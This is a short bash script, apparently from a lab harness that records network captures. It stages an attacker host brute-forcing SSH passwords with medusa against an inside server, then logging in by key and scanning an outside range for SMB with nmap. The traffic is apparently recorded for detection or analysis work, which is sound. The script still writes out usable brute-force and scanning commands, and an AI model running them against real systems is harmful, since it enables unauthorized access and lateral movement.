#!/bin/bash
# medusa guesses passwords of two users over SSH. Then somebody gets in from the same address (by a key: headers do not
# tell), and nmap on that server looks for SMB in an outside network.
LAB_DELAY_MS=12
. "$(dirname "$0")/../../lab.sh"; . $pcaps_dir/sshd.sh; lab
outside attacker 203.0.113.9
inside server 10.20.0.22
password_server server
on isp ip addr del 198.51.100.1/24 dev out
on isp ip route replace blackhole 198.51.100.0/24
record router wan -s 128
on attacker timeout 60 medusa -h 10.20.0.22 -U $tmp/users -P $tmp/words -M ssh -t 2 >/dev/null || true
sleep 2
by_key attacker 10.20.0.22 nmap -n -Pn -sT -p 445 --max-retries 0 --min-rate 8 --max-rate 8 198.51.100.0/26 >/dev/null
recorded
